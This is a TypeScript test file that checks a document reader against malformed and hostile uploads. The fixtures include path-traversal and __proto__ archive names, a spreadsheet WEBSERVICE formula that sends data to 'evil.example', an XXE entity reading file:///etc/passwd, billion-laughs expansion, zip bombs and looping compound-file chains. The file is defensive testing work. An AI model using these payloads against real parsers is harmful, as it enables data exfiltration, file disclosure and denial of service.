import { deflateRawSync } from 'node:zlib';
import { deflateSync, strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import {
  makeDocx,
  makeEml,
  makeOds,
  makePdf,
  makeXlsx,
  makeZip,
  withDeclaredSize,
  zipTexts,
} from '../../cli/samples/make-files.ts';
import { makePile, withEntry } from '../../cli/samples/zip-entry.ts';
import { readSetting } from '../../../test/quotes/read-setting.ts';
import { parseSlice } from '../parse-review.ts';
import { joined } from './joined.ts';
import { LIMITS } from './limits.ts';
import { readFile } from './read-file.ts';

const good = strToU8('Item,Maker\n1,Dahua\n');

/** Each file of a message with its error, or with how many lines it has. */
async function outcomes(name: string, bytes: Uint8Array): Promise<Record<string, string | number>> {
  const files = await readFile(name, bytes, readSetting);
  return Object.fromEntries(files.map((file) => [file.name, file.error?.code ?? file.lines.length]));
}

describe('bad files among good ones', () => {
  it('each has its own line, and the good ones are read', async () => {
    const mail = makeEml('<p>Offer</p>', {
      'empty.csv': new Uint8Array(0),
      'broken.xlsx': makeXlsx({ A: [['x']] }).slice(0, 200),
      'broken.pdf': strToU8('%PDF-1.7 nothing'),
      'named.csv': makeXlsx({ A: [['x']] }),
      'noise.bin': Uint8Array.of(0, 1, 2, 3),
      'old.xls': Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1),
      'good.csv': good,
      'scan.pdf': makePdf([{ texts: [], pictures: [[0, 0, 595, 842]] }]),
    });
    expect(await outcomes('m.eml', mail)).toEqual({
      'm.eml': 3,
      'm.eml!empty.csv': 'empty',
      'm.eml!broken.xlsx': 'damaged',
      'm.eml!broken.pdf': 'damaged',
      'm.eml!named.csv': 'wrong-extension',
      'm.eml!noise.bin': 'unknown-format',
      'm.eml!old.xls': 'save-as-xlsx',
      'm.eml!good.csv': 2,
      'm.eml!scan.pdf': 1,
    });
  });

  it('takes no name in an archive for more than a name', async () => {
    const zip = makeZip({ '../../etc/passwd.csv': good, __proto__: good, 'constructor.csv': good });
    const read = await readFile('q.zip', zip, readSetting);
    expect(read.map(({ name }) => name)).toContain('q.zip!../../etc/passwd.csv');
    expect(read.find(({ name }) => name === 'q.zip!constructor.csv')?.lines).toHaveLength(2);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

describe('files without a line, and with lines without an end', () => {
  it.each([
    ['q.csv', strToU8('\n,,\n')],
    ['q.txt', strToU8(' \n')],
    ['q.html', strToU8('<p> </p>')],
    ['q.xlsx', makeXlsx({ A: [], B: [['']] })],
    ['q.docx', makeDocx([], [])],
  ])('never takes %s for one that was read and names nobody', async (name, bytes) => {
    expect(await outcomes(name, bytes)).toEqual({ [name]: 'empty' });
  });

  it('takes a table with zeros in it for no text, rather than for one in another encoding', async () => {
    for (const text of ['a,b\n1,Hik\0vision\n', 'Maker\n Hikvision\0\0\0\n']) {
      expect(await outcomes('q.csv', strToU8(text))).toEqual({ 'q.csv': 'unknown-format' });
    }
  });

  it('refuses a line that a kept review could not hold, in words', async () => {
    const most = 'x'.repeat(LIMITS.lineUnits);
    expect(await outcomes('q.html', strToU8(`<p>${most}</p>`))).toEqual({ 'q.html': 1 });
    expect(await outcomes('q.html', strToU8(`<p>${most}x</p>`))).toEqual({ 'q.html': 'line-too-long' });
    const [file] = await readFile('q.txt', strToU8(most), readSetting);
    const lines = file?.lines.map((line) => ({ ...line, verdict: 'no-match', matches: [] }));
    expect(parseSlice({ file: 0, lines })).not.toBeNull();
  });
});

describe('documents with more than text in them', () => {
  it('shows what a formula shows, and follows no link or macro of it', async () => {
    const parts = unzipSync(makeXlsx({ A: [['x']] }));
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    const formula = '<c r="A1" t="str"><f>WEBSERVICE("https://evil.example/"&amp;A2)</f><v>Axis</v></c>';
    parts['xl/worksheets/sheet1.xml'] = strToU8(sheet.replace(/<c r="A1".*<\/c>/, formula));
    const [file] = await readFile(
      'q.xlsx',
      makeZip({ ...parts, 'xl/vbaProject.bin': strToU8('Shell') }),
      readSetting,
    );
    expect(file?.lines.map(({ text }) => text)).toEqual(['Axis']);
  });

  it('fetches and expands no entity that a spreadsheet declares', async () => {
    const evil =
      '<!DOCTYPE r [<!ENTITY a "Hikvision"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]>';
    const parts = unzipSync(makeOds({ A: [['PLACE']] }));
    const content = strFromU8(parts['content.xml'] ?? new Uint8Array())
      .replace('PLACE', '&b;&c;')
      .replace('?>', `?>${evil}`);
    const [file] = await readFile('q.ods', zipTexts({ 'content.xml': content }), readSetting);
    expect(file?.lines.map(({ text }) => text).join()).not.toMatch(/root:|Hikvision/);
  });

  it('reads what a page shows, not what its scripts would, and says that its frames were not read', async () => {
    const html = `<p onclick="x()">Axis</p><script>document.write('Hikvision')</script><iframe srcdoc="<p>Dahua</p>">ZTE</iframe>
      <svg><text>Hytera</text></svg><object data="x">Huawei</object><noscript>DJI</noscript>`;
    const [file] = await readFile('q.html', strToU8(html), readSetting);
    expect(file?.lines.map(({ text, unreadable }) => unreadable ?? text)).toEqual([
      'Axis',
      'Hytera',
      'scanned-image',
    ]);
  });
});

describe('archives that lie', () => {
  const zeros = (count: number): Uint8Array => new Uint8Array(count);
  const pile = (content: Uint8Array, entries: number, size = content.length): Uint8Array =>
    makePile(content, content, { entries, size });

  it('refuses one that names a place of it over and over, and reads one that saves itself a copy', async () => {
    expect(await outcomes('q.zip', pile(good, 2))).toEqual({ 'q.zip!00000.txt': 2, 'q.zip!00001.txt': 2 });
    expect(await outcomes('q.zip', pile(zeros(1_000_000), 1_500, 0))).toEqual({ 'q.zip': 'zip-bomb' });
    const packed = deflateSync(zeros(4_000_000));
    const deflated = makePile(packed, zeros(1), { entries: 40, size: 1, isDeflated: true });
    expect(await outcomes('q.zip', deflated)).toEqual({ 'q.zip': 'zip-bomb' });
  });

  it('loses no other file to an entry that claims what lies behind it', async () => {
    const zip = zipSync({ 'a.csv': good, 'b.csv': good, 'c.csv': good }, { level: 0 });
    const view = new DataView(zip.buffer);
    for (const size of [zip.length - 100, 0x7fffffff]) {
      view.setUint32(Buffer.from(zip).indexOf('PK\x01\x02') + 20, size, true);
      expect(await outcomes('q.zip', zip)).toEqual({
        'q.zip!a.csv': 'damaged',
        'q.zip!b.csv': 2,
        'q.zip!c.csv': 2,
      });
    }
  });

  it('takes a stored entry for damaged that is not as long as it says', async () => {
    expect(await outcomes('q.zip', pile(good, 1, 0))).toEqual({ 'q.zip!00000.txt': 'damaged' });
  });

  it('waits for the end of blocks that are stored within a deflated entry', async () => {
    const content = strToU8('Item,Maker\n'.repeat(20_000));
    const packed = new Uint8Array(deflateRawSync(content, { level: 0 }));
    const zip = makePile(packed, content, { entries: 1, size: content.length, isDeflated: true });
    expect(await outcomes('q.zip', zip)).toEqual({ 'q.zip!00000.txt': 20_000 });
  });

  it('stops unpacking where entries grow beyond what they said, and where nothing comes any more', async () => {
    const long = makePile(deflateSync(good), good, { entries: 1, size: 1, isDeflated: true });
    expect(await outcomes('q.zip', long)).toEqual({ 'q.zip!00000.txt': 'damaged' });
    const packed = deflateSync(zeros(17_000_000));
    const names = Array.from({ length: 26 }, (_, i) => `${i}.txt`);
    const stored = zipSync(Object.fromEntries(names.map((name) => [name, packed])), { level: 0 });
    const many = names.reduce((zip, _, i) => withEntry(zip, i, { method: 8 }), withDeclaredSize(stored, 1));
    expect(await outcomes('q.zip', many)).toEqual({ 'q.zip': 'zip-bomb' });
    const trailed = joined([deflateSync(good), zeros(1_000_000)]);
    const still = makePile(trailed, good, { entries: 1, size: good.length, isDeflated: true });
    expect(await outcomes('q.zip', still)).toEqual({ 'q.zip!00000.txt': 'damaged' });
  });
});

describe('compound files that bite their tail', () => {
  const knot = (chain: (view: DataView, sector: (number: number) => number) => void): Uint8Array => {
    const bytes = new Uint8Array(2_000_000);
    bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    const view = new DataView(bytes.buffer);
    view.setUint16(30, 9, true);
    view.setUint16(32, 6, true);
    bytes.fill(0xff, 76, 512);
    chain(view, (number) => (number + 1) * 512);
    return bytes;
  };

  // Half a million tables of 512 bytes took a gigabyte and more, and those of a longer file all there is.
  it.each([
    ['leads back to where it was', 1, 0],
    ['names more tables than the file has sectors', 3_900, 0xfffffffe],
  ])('ends where the list of its tables %s', async (_, lists, next) => {
    const bytes = knot((view, sector) => {
      for (let list = 0; list < lists; list++) {
        for (let at = sector(list); at < sector(list + 1) - 4; at += 4) view.setUint32(at, 1, true);
        view.setUint32(sector(list + 1) - 4, list + 1 < lists ? list + 1 : next, true);
      }
    });
    const before = process.memoryUsage().rss;
    expect(await outcomes('q.msg', bytes)).toEqual({ 'q.msg': 'damaged' });
    expect(process.memoryUsage().rss - before).toBeLessThan(100_000_000);
  });

  it('ends where a chain leads through sectors that are not there', async () => {
    // Nearly all sectors are tables, 128 numbers each: the chain of a stream has far more links than the file sectors.
    const lists = 30;
    const bytes = knot((view, sector) => {
      for (let list = 0; list < lists; list++)
        for (let i = 0; i < 128; i++)
          view.setUint32(sector(list) + 4 * i, i < 127 ? lists + list * 127 + i : list + 1, true);
      view.setUint32(sector(lists) - 4, 0xfffffffe, true);
      for (let i = 0; sector(lists) + 4 * i < view.byteLength; i++)
        view.setUint32(sector(lists) + 4 * i, i + 1, true);
      for (const at of [48, 60]) view.setUint32(at, lists, true);
    });
    const before = process.memoryUsage().rss;
    await outcomes('q.msg', bytes);
    expect(process.memoryUsage().rss - before).toBeLessThan(100_000_000);
  });
});
